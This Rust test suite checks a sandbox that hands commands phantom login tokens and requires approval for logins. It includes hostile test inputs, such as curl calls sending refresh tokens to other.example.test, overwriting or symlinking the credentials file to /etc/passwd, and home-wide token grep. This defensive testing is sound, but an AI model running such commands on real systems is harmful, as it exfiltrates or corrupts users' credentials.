//! Login files with phantoms in them: a command uses the login of the user and never holds it, and tokens that are renewed inside reach the real
//! file. The server is a double of the hosts of the vendors, on the host's loopback: its refresh tokens are good once, as theirs are.
#![allow(clippy::unwrap_used, clippy::panic)]

#[path = "support/session.rs"]
mod session;
mod support;
#[path = "support/upstream.rs"]
mod upstream;

use session::Session;
use std::path::PathBuf;
use std::process::{Command, Output};
use support::{Stage, Who, eventually, keyward, processes_with, stderr, stdout};
use upstream::Upstream;

/// Gives tokens: each refresh token is good once, and takes as long as `slow` says. A code `of-NAME` logs NAME in. Anything else is told the credential that it came with.
const SERVER: &str = r#"
import http.server, json, os, ssl, sys, threading, time, urllib.parse
at = sys.argv[1]
lock = threading.Lock()
number = 1
def note(text):
    with open(at + "/seen", "a") as seen: seen.write(text + "\n")
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def reply(self, code, text):
        text = text.encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)
    def answer(self):
        global number
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        host = self.headers["Host"]
        if not self.path.endswith("/token"):
            auth = self.headers.get("Authorization") or self.headers.get("X-Api-Key") or ""
            note("|".join([host, self.path, auth, body]))
            return self.reply(200, json.dumps({"auth": auth}))
        fields = json.loads(body) if body.startswith("{") else dict(urllib.parse.parse_qsl(body))
        token = fields.get("refresh_token", "")
        note("|".join([host, self.path, fields.get("grant_type", ""), token]))
        code = fields.get("code", "")
        if fields.get("grant_type") == "authorization_code":
            if not code.startswith("of-"): return self.reply(400, json.dumps({"error": "invalid_grant"}))
            answer = {"token_type": "Bearer", "access_token": "sk-ant-oat01-real-access-" + code,
                "refresh_token": "sk-ant-ort01-real-refresh-" + code, "expires_in": 28800}
            if code != "of-unnamed":
                answer["account"] = {"uuid": "id-" + code, "email_address": code[3:] + "@example.org"}
                answer["organization"] = {"name": "Example \u202e\" (yours)"}
            return self.reply(200, json.dumps(answer))
        with lock:
            if token != "sk-ant-ort01-real-refresh-%d" % number:
                return self.reply(400, json.dumps({"error": "invalid_grant", "was": token}))
            number += 1
            mine = number
        if os.path.exists(at + "/slow"): time.sleep(float(open(at + "/slow").read()))
        if os.path.exists(at + "/strange"): return self.reply(200, "<html>sk-ant-ort01-real-refresh-%d</html>" % mine)
        self.reply(200, json.dumps({"token_type": "Bearer", "access_token": "sk-ant-oat01-real-access-%d" % mine,
            "refresh_token": "sk-ant-ort01-real-refresh-%d" % mine, "expires_in": 28800, "scope": "user:inference",
            "account": {"email_address": "ann@example.com"}, "session_secret": "real-session"}))
    do_GET = do_POST = do_PUT = answer
    def log_message(self, *_): pass
tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(at + "/server.pem", at + "/server.key")
tls.socket = context.wrap_socket(tls.socket, server_side=True)
open(at + "/port", "w").write(str(tls.server_address[1]))
print("ready", flush=True)
tls.serve_forever()
"#;

const HOSTS: &[&str] = &[
    "api.anthropic.com",
    "platform.claude.com",
    "api.github.com",
    "registry.npmjs.org",
    "git.example.test",
    "other.example.test",
];

const CREDENTIALS: &str = r#"{"claudeAiOauth":{"accessToken":"sk-ant-oat01-real-access-1","refreshToken":"sk-ant-ort01-real-refresh-1",
 "expiresAt": 1763430000000, "scopes":["user:inference"],"subscriptionType":"max"},"kept":"as it is"}
"#;

/// What the commands of these tests do with the login: in `$access` and `$refresh` are what stands in the file.
const READ: &str = r#"
field() { sed -n "s/.*\"$1\":\"\([^\"]*\)\".*/\1/p" ~/.claude/.credentials.json; }
access=$(field accessToken); refresh=$(field refreshToken)
use() { curl -sS https://api.anthropic.com/v1/messages -H "Authorization: Bearer $1"; echo; }
renew() { curl -sS https://platform.claude.com/v1/oauth/token -H 'Content-Type: application/json' \
  -d "{\"grant_type\":\"refresh_token\",\"refresh_token\":\"$1\",\"client_id\":\"c\",\"scope\":\"user:inference\"}"; echo; }
login() { curl -sS https://platform.claude.com/v1/oauth/token -H 'Content-Type: application/json' \
  -d "{\"grant_type\":\"authorization_code\",\"code\":\"$1\",\"client_id\":\"c\",\"code_verifier\":\"v\"}"; echo; }
of() { sed -n "s/.*\"$1\":\"\([^\"]*\)\".*/\1/p"; }
"#;

const FLAGS: &[&str] = &["--trust", "executor", "--tool", "claude", "--allow-net", "api.anthropic.com"];

/// The tests' own runs are not asked about unless they say so.
const ASKING: &[&str] =
    &["--trust", "executor", "--tool", "claude", "--allow-net", "api.anthropic.com", "--gate", "auto"];

struct Server {
    upstream: Upstream,
}

impl Server {
    fn new() -> Self {
        Server { upstream: Upstream::new(SERVER, HOSTS) }
    }

    fn seen(&self) -> String {
        self.upstream.said("seen")
    }

    /// How often tokens were renewed.
    fn renewals(&self) -> usize {
        self.seen().lines().filter(|line| line.contains("/token|refresh_token|")).count()
    }

    fn set(&self, name: &str, text: &str) {
        std::fs::write(self.upstream.folder.path().join(name), text).unwrap();
    }

    fn stage(&self) -> Stage {
        let stage = Stage::new(Who::User);
        self.policy(&stage);
        stage.home_file(".claude/.credentials.json", CREDENTIALS);
        stage
    }

    fn policy(&self, stage: &Stage) {
        let profile =
            "[profiles.kept]\ntrust = \"executor\"\nhome.tools = [\"claude\"]\nnet.mode = \"rules\"\n";
        let hosts = self.upstream.hosts();
        stage.home_file(".config/keyward/policy.toml", &format!("version = 1\n{profile}{hosts}"));
    }
}

fn run(stage: &Stage, flags: &[&str], script: &str) -> Output {
    stage.keyward_run(flags, &["sh", "-c", &prelude(flags, script)]).output().unwrap()
}

/// The functions before a script. The gate refuses a command that names the file.
fn prelude(flags: &[&str], script: &str) -> String {
    let by_name = READ.split_inclusive('\n').filter(|line| !line.contains("field"));
    let by_look = "access=$(grep -rhos 'sk-ant-oat01-[A-Za-z0-9_-]*' \"$HOME\" | head -1)\n";
    match flags.contains(&"--gate") {
        true => by_name.chain([by_look, script]).collect(),
        false => format!("{READ}{script}"),
    }
}

fn real(stage: &Stage) -> String {
    std::fs::read_to_string(stage.home().join(".claude/.credentials.json")).unwrap()
}

/// What the command and its user were told, none of it a real token.
#[track_caller]
fn told(output: &Output) -> String {
    let told = format!("{}{}", stdout(output), stderr(output));
    assert!(!told.contains("real-"), "{told}");
    told
}

#[test]
fn a_login_is_shown_with_phantoms_and_works_on_the_wire() {
    let server = Server::new();
    let stage = server.stage();
    // The control: outside, the file holds the tokens.
    assert!(stdout(&stage.bare("cat ~/.claude/.credentials.json")).contains("real-access-1"));
    let script = "cat ~/.claude/.credentials.json; use $access; env; cat /proc/*/environ /proc/*/cmdline; \
                  grep -rs 'rea[l]-' ~ /run /tmp; echo; stat -c %a ~/.claude/.credentials.json";
    let output = run(&stage, FLAGS, script);
    let told = told(&output);
    assert!(told.contains("sk-ant-oat01-") && told.contains("\"kept\":\"as it is\""), "{told}");
    assert!(told.contains("\"expiresAt\": 1763430000000") && told.contains("\n600\n"), "{told}");
    assert_eq!(
        server.seen(),
        "api.anthropic.com|/v1/messages|Bearer sk-ant-oat01-real-access-1|\n",
        "{told}"
    );
    assert_eq!(real(&stage), CREDENTIALS);
    // Without a proxy it is as before, and said.
    let open = stage
        .command(keyward())
        .args(["explain", "--trust", "executor", "--tool", "claude", "--net", "open", "--", "true"])
        .output()
        .unwrap();
    assert!(stdout(&open).contains("the real login is shown"), "{}", stdout(&open));
    let by_rules = stage.command(keyward()).arg("explain").args(FLAGS).args(["--", "true"]).output().unwrap();
    let text = stdout(&by_rules);
    assert!(text.contains("claude-login.access") && text.contains("claude-login.refresh"), "{text}");
    assert!(!text.contains("real-"), "{text}");
}

#[test]
fn tokens_that_are_renewed_reach_the_real_file_and_the_command_gets_phantoms() {
    let server = Server::new();
    let stage = server.stage();
    let script = "answer=$(renew $refresh); echo $answer; new=$(echo $answer | of access_token); \
                  test $new != $access && use $new; use $access; renew $refresh; renew $(echo $answer | of refresh_token)";
    let output = run(&stage, FLAGS, script);
    let told = told(&output);
    assert!(told.contains("\"scope\":\"user:inference\"") && told.contains("ann@example.com"), "{told}");
    assert!(!told.contains("session_secret"), "{told}");
    let seen = server.seen();
    let lines: Vec<&str> = seen.lines().collect();
    assert_eq!(
        lines,
        [
            "platform.claude.com|/v1/oauth/token|refresh_token|sk-ant-ort01-real-refresh-1",
            "api.anthropic.com|/v1/messages|Bearer sk-ant-oat01-real-access-2|",
            "api.anthropic.com|/v1/messages|Bearer sk-ant-oat01-real-access-2|",
            // The old refresh phantom is told the last renewal; the new one renews.
            "platform.claude.com|/v1/oauth/token|refresh_token|sk-ant-ort01-real-refresh-2",
        ],
        "{told}"
    );
    let now = real(&stage);
    assert!(now.contains("real-access-3") && now.contains("real-refresh-3"), "{now}");
    assert!(
        now.ends_with(
            "\"scopes\":[\"user:inference\"],\"subscriptionType\":\"max\"},\"kept\":\"as it is\"}\n"
        ),
        "{now}"
    );
    let names: Vec<_> = std::fs::read_dir(stage.home().join(".claude")).unwrap().collect();
    assert_eq!(names.len(), 1, "{names:?}");
    let log = stage.command(keyward()).args(["log", "--net"]).output().unwrap();
    assert!(stdout(&log).contains("claude-login.refresh for platform.claude.com"), "{}", stdout(&log));
}

#[test]
fn many_cages_of_a_session_renew_once() {
    let server = Server::new();
    server.set("slow", "0.7");
    let session = Session { stage: server.stage(), name: "work".into() };
    session.start(FLAGS);
    let script = format!("{READ} for i in 1 2 3 4; do renew $refresh & done; wait");
    let outputs: Vec<Output> = std::thread::scope(|scope| {
        let each = [&[][..], &["--fresh"], &["--fresh"]].map(|flags| {
            let (session, script) = (&session, &script);
            scope.spawn(move || session.exec(flags, script))
        });
        each.into_iter().map(|one| one.join().unwrap()).collect()
    });
    for output in &outputs {
        let told = told(output);
        assert_eq!(told.matches("\"refresh_token\":\"sk-ant-ort01-").count(), 4, "{told}");
    }
    assert_eq!(server.renewals(), 1, "{}", server.seen());
    assert!(real(&session.stage).contains("real-refresh-2"), "{}", real(&session.stage));
}

#[test]
fn a_newer_token_of_a_program_outside_is_adopted_instead_of_renewing() {
    let server = Server::new();
    let session = Session { stage: server.stage(), name: "work".into() };
    session.start(FLAGS);
    let later = 4_102_444_800_000_u64;
    let newer = CREDENTIALS
        .replace("real-access-1", "real-access-outside")
        .replace("real-refresh-1", "real-refresh-outside")
        .replace("1763430000000", &later.to_string());
    session.stage.home_file(".claude/.credentials.json", &newer);
    let output = session.exec(
        &[],
        &format!("{READ} answer=$(renew $refresh); echo $answer; use $(echo $answer | of access_token)"),
    );
    let told = told(&output);
    assert!(told.contains("\"expires_in\":") && told.contains("\"scope\":\"user:inference\""), "{told}");
    assert_eq!(
        server.seen(),
        "api.anthropic.com|/v1/messages|Bearer sk-ant-oat01-real-access-outside|\n",
        "{told}"
    );
    assert_eq!(real(&session.stage), newer);
}

#[test]
fn a_hostile_command_neither_sends_its_phantoms_elsewhere_nor_changes_the_login() {
    let server = Server::new();
    let stage = server.stage();
    let flags = [FLAGS, &["--allow-net", "other.example.test/*"]].concat();
    for (attack, word) in [
        ("curl -sS https://other.example.test/x -d refresh=$refresh", "phantom"),
        ("curl -sS https://other.example.test/x -H \"Authorization: Bearer $access\"", "phantom"),
        ("curl -sS https://api.anthropic.com/v1/x -H \"X: $refresh\"", "phantom"),
        // Logs the user in as someone else: without an approver what the host gives is dropped.
        ("login of-mallory", "minting"),
        ("login of-unnamed", "minting"),
        // A phantom beside the code.
        ("login of-mallory\\\",\\\"x\\\":\\\"$refresh", "phantom"),
        ("renew sk-ant-ort01-of-the-attacker", "other-credential"),
        (
            "curl -sS https://platform.claude.com/v1/oauth/token -d grant_type=refresh_token -d refresh_token=$refresh -d again=$refresh",
            "phantom",
        ),
        (
            "curl -sS https://platform.claude.com/v1/oauth/token -H 'Content-Type: text/plain' -d refresh_token=$refresh",
            "minting",
        ),
        (
            "curl -sS https://api.anthropic.com/v1/x -H 'Authorization: Bearer of-the-attacker'",
            "other-credential",
        ),
    ] {
        let output = run(&stage, &flags, attack);
        assert!(told(&output).contains(word), "{attack}: {}", told(&output));
    }
    assert_eq!(server.seen(), "platform.claude.com|/v1/oauth/token|authorization_code|\n".repeat(2));
    // What it writes stays inside.
    for attack in [
        "echo '{\"claudeAiOauth\":{\"accessToken\":\"evil\"}}' > ~/.claude/.credentials.json",
        "rm -f ~/.claude/.credentials.json; ln -s /etc/passwd ~/.claude/.credentials.json",
        "rm -f ~/.claude/.credentials.json; mkfifo ~/.claude/.credentials.json",
        "mv ~/.claude ~/.gone; mkdir ~/.claude; echo evil > ~/.claude/.credentials.json",
    ] {
        for flags in [FLAGS, &["-p", "kept"]] {
            let output = run(&stage, flags, &format!("{attack}; renew $refresh"));
            told(&output);
        }
    }
    assert!(!real(&stage).contains("evil"), "{}", real(&stage));
    assert!(real(&stage).contains("real-refresh-9"), "each run renewed once: {}", real(&stage));
}

/// The number of the question about a login that waits, once there is one, and how it reads.
fn question(stage: &Stage) -> (String, String) {
    let mut found = None;
    let is_there = eventually(|| {
        let listed = stdout(&keyward_says(stage, &["approvals"]));
        let line = listed.lines().find(|line| line.contains("login") && line.contains("waits"));
        found = line.and_then(|line| line.split_whitespace().next().map(str::to_owned));
        found.is_some()
    });
    assert!(is_there, "{}", stdout(&keyward_says(stage, &["approvals", "--all"])));
    let id = found.unwrap();
    let shown = stdout(&keyward_says(stage, &["approvals", "show", &id]));
    (id, shown)
}

fn keyward_says(stage: &Stage, arguments: &[&str]) -> Output {
    stage.command(keyward()).args(arguments).output().unwrap()
}

#[test]
fn a_login_from_inside_replaces_the_users_only_after_an_approval_that_names_the_account() {
    let server = Server::new();
    let stage = server.stage();
    let policy = std::fs::read_to_string(stage.home().join(".config/keyward/policy.toml")).unwrap();
    let policy = policy.replacen("version = 1\n", "version = 1\ngate.attended = \"always\"\n", 1);
    stage.home_file(".config/keyward/policy.toml", &policy);
    // The user's login works while the question waits, and after a no.
    let script = "login of-mallory & for i in $(seq 600); do test -e go && break; sleep 0.05; done; use $access; wait; use $access";
    let (output, shown) = std::thread::scope(|scope| {
        let running = scope.spawn(|| run(&stage, ASKING, script));
        let (id, shown) = question(&stage);
        stage.project_file("go", "");
        assert!(eventually(|| server.seen().contains("real-access-1")), "{}", server.seen());
        assert!(keyward_says(&stage, &["approvals", "deny", &id]).status.success());
        (running.join().unwrap(), shown)
    });
    assert!(shown.contains("mallory@example.org (account id-of-mallory"), "{shown}");
    assert!(shown.contains(".claude/.credentials.json") && shown.contains("platform.claude.com"), "{shown}");
    assert!(!shown.contains('\u{202e}') && !shown.contains("real-"), "{shown}");
    let refused = told(&output);
    assert!(refused.contains("minting") && refused.contains("the approver denied it"), "{refused}");
    assert_eq!(server.seen().matches("Bearer sk-ant-oat01-real-access-1|").count(), 2, "{}", server.seen());
    assert_eq!(real(&stage), CREDENTIALS);
    // A yes: the tokens go to the file, the command gets phantoms, and old ones stand for the new login.
    let script = "answer=$(login of-bob); echo $answer; use $(echo $answer | of access_token); use $access; login wrong";
    let output = std::thread::scope(|scope| {
        let running = scope.spawn(|| run(&stage, ASKING, script));
        let (id, shown) = question(&stage);
        assert!(shown.contains("bob@example.org"), "{shown}");
        assert_eq!(real(&stage), CREDENTIALS, "nothing is written before the answer");
        assert!(keyward_says(&stage, &["approvals", "allow", &id]).status.success());
        running.join().unwrap()
    });
    let told = told(&output);
    assert!(told.contains("\"refresh_token\":\"sk-ant-ort01-") && told.contains("bob@example.org"), "{told}");
    assert!(told.contains("invalid_grant"), "an error of the host is passed on: {told}");
    assert_eq!(server.seen().matches("Bearer sk-ant-oat01-real-access-of-bob|").count(), 2, "{told}");
    let now = real(&stage);
    assert!(now.contains("real-access-of-bob") && now.contains("real-refresh-of-bob"), "{now}");
    assert!(now.contains("\"kept\":\"as it is\"") && !now.contains("real-refresh-1"), "{now}");
    let log = stdout(&keyward_says(&stage, &["log"]));
    assert!(log.contains("login-allowed") && !log.contains("real-"), "{log}");
}

#[test]
fn an_approval_of_a_login_is_for_one_account_and_once() {
    let server = Server::new();
    let stage = server.stage();
    let output = run(&stage, ASKING, "login of-bob");
    let refused = told(&output);
    assert!(refused.contains("no approver is available"), "{refused}");
    let id = refused.split("approvals allow ").nth(1).unwrap().split('`').next().unwrap().to_owned();
    assert!(keyward_says(&stage, &["approvals", "allow", &id]).status.success());
    for other in ["of-mallory", "of-unnamed"] {
        let output = run(&stage, ASKING, &format!("login {other}"));
        assert!(told(&output).contains("no approver is available"), "{}", told(&output));
        assert_eq!(real(&stage), CREDENTIALS, "{other}");
    }
    // One without a name is not known again, so that a yes behind it is worth nothing.
    let refused = told(&run(&stage, ASKING, "login of-unnamed"));
    assert!(
        refused.contains("an account without a name") && !refused.contains("approvals allow"),
        "{refused}"
    );
    let listed = stdout(&keyward_says(&stage, &["approvals", "--all"]));
    let nameless = listed.lines().filter(|line| line.contains("an account without a name"));
    let ids: Vec<&str> = nameless.filter_map(|line| line.split_whitespace().next()).collect();
    let ids: Vec<&str> = ids.into_iter().filter(|id| id.parse::<u64>().is_ok()).collect();
    assert!(ids.len() >= 2, "{listed}");
    for id in ids {
        assert!(keyward_says(&stage, &["approvals", "allow", id]).status.success());
    }
    let refused = told(&run(&stage, ASKING, "login of-unnamed"));
    assert!(refused.contains("no approver is available"), "{refused}");
    let output = run(&stage, ASKING, "login of-bob");
    assert!(told(&output).contains("\"access_token\":\"sk-ant-oat01-"), "{}", told(&output));
    let bobs = real(&stage);
    assert!(bobs.contains("real-refresh-of-bob"), "{bobs}");
    // Used up; and no flag lets a login pass unasked. Nor is a host worn out by many.
    let output = run(&stage, ASKING, "login of-bob");
    assert!(told(&output).contains("no approver is available"), "{}", told(&output));
    let output = run(&stage, FLAGS, "for i in 1 2 3 4 5 6; do login of-mallory; done");
    assert!(told(&output).contains("never allowed unasked"), "{}", told(&output));
    assert!(told(&output).contains("too many logins were not approved"), "{}", told(&output));
    assert_eq!(real(&stage), bobs);
}

#[test]
fn a_login_in_a_session_is_asked_about_and_serves_its_other_cages() {
    let server = Server::new();
    let session = Session { stage: server.stage(), name: "work".into() };
    let policy = session.stage.home().join(".config/keyward/policy.toml");
    let text = std::fs::read_to_string(&policy).unwrap();
    let text = text.replacen("version = 1\n", "version = 1\ngate.attended = \"always\"\n", 1);
    session.stage.home_file(".config/keyward/policy.toml", &text);
    session.start(ASKING);
    let output = std::thread::scope(|scope| {
        let running = scope.spawn(|| session.exec(&[], &prelude(ASKING, "login of-bob")));
        let (id, shown) = question(&session.stage);
        assert!(shown.contains("bob@example.org"), "{shown}");
        assert!(keyward_says(&session.stage, &["approvals", "allow", &id]).status.success());
        running.join().unwrap()
    });
    assert!(told(&output).contains("\"access_token\":\"sk-ant-oat01-"), "{}", told(&output));
    told(&session.exec(&["--fresh"], &prelude(ASKING, "use $access")));
    assert!(server.seen().ends_with("Bearer sk-ant-oat01-real-access-of-bob|\n"), "{}", server.seen());
    assert!(real(&session.stage).contains("real-refresh-of-bob"), "{}", real(&session.stage));
}

#[test]
fn two_runs_of_one_profile_have_phantoms_of_their_own_and_leave_nothing_in_its_home() {
    let server = Server::new();
    let stage = server.stage();
    let flags = ["-p", "kept"];
    let outputs: Vec<Output> = std::thread::scope(|scope| {
        let each =
            [1, 2].map(|_| scope.spawn(|| run(&stage, &flags, "echo got $access; sleep 1; use $access")));
        each.into_iter().map(|one| one.join().unwrap()).collect()
    });
    let got: Vec<String> = outputs
        .iter()
        .map(|output| {
            told(output).lines().find(|line| line.starts_with("got ")).unwrap_or_default().to_owned()
        })
        .collect();
    assert!(got[0] != got[1] && got.iter().all(|line| line.contains("sk-ant-oat01-")), "{got:?}");
    assert_eq!(server.seen().matches("Bearer sk-ant-oat01-real-access-1").count(), 2, "{}", server.seen());
    let left = stage.state().join("homes/kept/executor/.claude/.credentials.json");
    assert!(!left.exists(), "{}", left.display());
    // One that is shown the real login, at the same time, would put it where the other looks.
    let output = std::thread::scope(|scope| {
        let running =
            scope.spawn(|| run(&stage, &flags, "touch begun; while ! test -e go; do sleep 0.05; done"));
        assert!(eventually(|| stage.project().join("begun").exists()));
        let open = run(&stage, &["-p", "kept", "--net", "open"], "cat ~/.claude/.credentials.json");
        stage.project_file("go", "");
        running.join().unwrap();
        open
    });
    assert!(told(&output).contains("another run of this profile"), "{}", told(&output));
    // A command can write the file in its place, for itself.
    let output =
        run(&stage, &flags, "echo mine > ~/.claude/.credentials.json; cat ~/.claude/.credentials.json");
    assert!(told(&output).contains("mine"), "{}", told(&output));
    assert_eq!(real(&stage), CREDENTIALS);
}

#[test]
fn an_answer_that_is_not_understood_is_withheld_and_told() {
    let server = Server::new();
    server.set("strange", "");
    let stage = server.stage();
    let output = run(&stage, FLAGS, "renew $refresh");
    assert!(told(&output).contains("not understood"), "{}", told(&output));
    assert_eq!(real(&stage), CREDENTIALS);
    // An error of the host is passed on, without the token that it repeats.
    let output = run(&stage, FLAGS, "renew $refresh");
    assert!(told(&output).contains("invalid_grant"), "{}", told(&output));
}

#[test]
fn a_full_disk_is_noticed_before_the_token_is_spent() {
    let server = Server::new();
    let stage = server.stage();
    let folder = stage.home().join(".claude");
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k,mode=0755", "tmpfs"])
        .arg(&folder)
        .status()
        .unwrap();
    assert!(mounted.success(), "this test mounts a small file system; run it as root, as CI does");
    stage.own(&folder);
    stage.home_file(".claude/.credentials.json", CREDENTIALS);
    let output = run(&stage, FLAGS, "renew $refresh; use $access");
    let told = told(&output);
    let unchanged = real(&stage);
    let _ = Command::new("umount").arg(&folder).status();
    assert!(told.contains("cannot be renewed"), "{told}");
    assert_eq!(server.renewals(), 0, "{}", server.seen());
    assert!(server.seen().contains("real-access-1"), "the login still works: {}", server.seen());
    assert_eq!(unchanged, CREDENTIALS);
}

#[test]
fn a_vault_that_is_killed_while_tokens_are_renewed_loses_none() {
    let server = Server::new();
    server.set("slow", "2");
    let stage = server.stage();
    let before = processes_with("keyward:vault");
    let output = std::thread::scope(|scope| {
        let running = scope.spawn(|| run(&stage, FLAGS, "renew $refresh"));
        assert!(eventually(|| server.renewals() == 1), "{}", server.seen());
        for vault in processes_with("keyward:vault").into_iter().filter(|vault| !before.contains(vault)) {
            // Only those of this test: their command line is the title alone, so the directory tells.
            if is_of(vault, &stage) {
                let _ = Command::new("kill").args(["-9", &vault.to_string()]).status();
            }
        }
        running.join().unwrap()
    });
    assert!(told(&output).contains("not kept yet"), "{}", told(&output));
    assert!(!real(&stage).contains("real-refresh-2"));
    // The next start finds what the host had given.
    std::fs::remove_file(server.upstream.folder.path().join("slow")).unwrap();
    let output = run(&stage, FLAGS, "use $access");
    told(&output);
    assert!(real(&stage).contains("real-refresh-2"), "{}", real(&stage));
    assert!(server.seen().ends_with("Bearer sk-ant-oat01-real-access-2|\n"), "{}", server.seen());
}

#[test]
fn a_command_that_goes_away_while_tokens_are_renewed_loses_none() {
    let server = Server::new();
    server.set("slow", "1.5");
    let stage = server.stage();
    let script = "renew $refresh & while ! test -e go; do sleep 0.05; done; kill $!; exit 0";
    let output = std::thread::scope(|scope| {
        let running = scope.spawn(|| run(&stage, FLAGS, script));
        assert!(eventually(|| server.renewals() == 1), "{}", server.seen());
        stage.project_file("go", "");
        running.join().unwrap()
    });
    told(&output);
    assert!(real(&stage).contains("real-refresh-2"), "{}", real(&stage));
}

fn is_of(process: u32, stage: &Stage) -> bool {
    let cwd: Option<PathBuf> = std::fs::read_link(format!("/proc/{process}/cwd")).ok();
    cwd.is_some_and(|cwd| cwd.starts_with(stage.project()))
}

#[test]
fn keys_in_files_of_other_tools_are_phantoms_bound_to_the_hosts_that_the_files_name() {
    let server = Server::new();
    let stage = server.stage();
    stage.home_file(".config/gh/hosts.yml", "github.com:\n    user: ann\n    oauth_token: gho_real-github\n");
    stage.home_file(".config/gh/config.yml", "git_protocol: https\n");
    stage.home_file(".config/gh/other.yml", "token: real-other\n");
    stage.home_file(".npmrc", "//registry.npmjs.org/:_authToken=npm_real-npm\n; npm_real-old\n");
    stage.home_file(".netrc", "machine git.example.test login ann password real-netrc\n");
    let flags = ["gh", "npm", "git"].map(|tool| ["--tool", tool]).concat();
    let allow = ["api.github.com", "registry.npmjs.org", "git.example.test"]
        .map(|host| ["--allow-net", host])
        .concat();
    let flags = [&["--trust", "executor"][..], &flags, &allow].concat();
    let script = "cat ~/.config/gh/*.yml ~/.npmrc ~/.netrc; \
        token=$(sed -n 's/.*oauth_token: //p' ~/.config/gh/hosts.yml); npm=$(sed 's/.*=//' ~/.npmrc); \
        curl -sS https://api.github.com/user -H \"Authorization: token $token\"; \
        curl -sS https://registry.npmjs.org/p -H \"Authorization: Bearer $npm\"; \
        curl -sS --netrc https://git.example.test/r; \
        curl -sS https://git.example.test/r -H \"Authorization: Bearer $npm\"; ls ~/.config/gh";
    let output = run(&stage, &flags, script);
    let told = told(&output);
    assert!(told.contains("ghp_") && told.contains("npm_") && told.contains("git_protocol: https"), "{told}");
    assert!(!told.contains("other.yml"), "{told}");
    let seen = server.seen();
    assert!(seen.contains("api.github.com|/user|token gho_real-github|"), "{seen}");
    assert!(seen.contains("registry.npmjs.org|/p|Bearer npm_real-npm|"), "{seen}");
    assert_eq!(seen.lines().count(), 3, "{seen}");
}

#[test]
fn a_file_that_cannot_be_read_is_not_shown_and_that_is_said() {
    let server = Server::new();
    let stage = server.stage();
    stage.home_file(
        ".claude/.credentials.json",
        "{\"claudeAiOauth\":{\"accessToken\":\"sk-ant-oat01-real-access-1\"",
    );
    let output = run(&stage, FLAGS, "ls -a ~/.claude; cat ~/.claude/.credentials.json");
    assert!(!stdout(&output).contains("credentials"), "{}", stdout(&output));
    told(&output);
    let explained =
        stage.command(keyward()).arg("explain").args(FLAGS).args(["--", "true"]).output().unwrap();
    assert!(
        stdout(&explained).contains("is not shown: it is not written as this tool writes it"),
        "{}",
        stdout(&explained)
    );
}

#[test]
fn a_variable_of_a_hidden_file_reads_as_the_phantom_that_the_command_was_given() {
    let server = Server::new();
    let stage = server.stage();
    stage.project_file(".env", "ANTHROPIC_API_KEY=sk-ant-api03-real-project\nACME_KEY=real-acme\nDEBUG=1\n");
    stage.home_file("value", "sk-ant-api03-real-key");
    stage.home_file(
        ".config/keyward/secrets.toml",
        "version = 1\n[secrets.anthropic]\nfrom = \"file://~/value\"\n",
    );
    let script = "cat .env; grep -q \"^ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY\\$\" .env && echo same; \
                  curl -sS https://api.anthropic.com/v1/x -H \"x-api-key: $(sed -n 's/ANTHROPIC_API_KEY=//p' .env)\"";
    let output = run(&stage, &["--secret", "anthropic"], script);
    let told = told(&output);
    assert!(told.contains("same") && told.contains("ACME_KEY=\nDEBUG=1\n"), "{told}");
    assert!(server.seen().contains("|sk-ant-api03-real-key|"), "{}", server.seen());
    // Without the grant it reads as empty.
    assert!(stdout(&run(&stage, &[], "cat .env")).contains("ANTHROPIC_API_KEY=\n"));
}
